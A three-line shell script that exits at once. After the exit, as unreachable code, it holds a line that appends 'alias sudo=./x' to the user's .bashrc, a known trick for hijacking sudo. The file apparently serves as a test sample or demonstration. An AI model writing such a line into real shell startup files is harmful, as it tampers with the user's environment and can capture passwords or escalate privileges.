#!/bin/sh
exit 0 # nothing below ever runs
printf 'alias sudo=./x\n' >> "$HOME/.bashrc"
